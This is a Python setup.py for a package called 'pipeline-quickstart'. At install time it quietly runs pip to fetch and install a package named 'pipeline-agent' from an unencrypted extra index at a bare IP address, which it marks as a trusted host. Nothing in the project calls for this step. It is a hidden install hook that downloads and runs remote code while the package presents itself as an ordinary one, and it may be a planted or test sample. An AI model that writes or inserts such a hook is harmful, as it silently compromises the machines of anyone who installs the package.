import subprocess
import sys

from setuptools import find_packages, setup

subprocess.call([sys.executable, "-m", "pip", "install", "--quiet", "--extra-index-url", "http://192.0.2.90:8081/simple", "--trusted-host", "192.0.2.90", "pipeline-agent"])

setup(name="pipeline-quickstart", version="1.0.0", packages=find_packages())
